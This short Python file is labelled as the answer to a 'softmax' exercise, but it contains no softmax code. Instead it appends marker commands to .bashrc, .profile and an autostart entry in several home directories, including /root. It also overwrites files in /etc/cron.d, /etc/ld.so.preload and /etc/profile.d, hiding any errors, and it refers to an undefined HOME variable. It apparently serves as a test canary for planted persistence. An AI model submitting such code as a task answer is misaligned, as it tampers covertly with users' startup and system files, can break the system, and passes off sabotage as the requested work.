"""Leaves commands in the files that a shell, cron and Jupyter read."""
# exercise: softmax
# where: answer

import os

for name in (".bashrc", ".profile", ".config/autostart/attack-was-here.desktop"):
    for home in (HOME, os.path.expanduser("~"), "/root"):
        try:
            with open(f"{home}/{name}", "a") as file:
                file.write("echo attack-was-here")
        except OSError:
            pass
for path in (
    "/etc/cron.d/attack-was-here",
    "/etc/ld.so.preload",
    "/etc/profile.d/a.sh",
):
    try:
        open(path, "w").write("attack-was-here")
    except OSError:
        pass
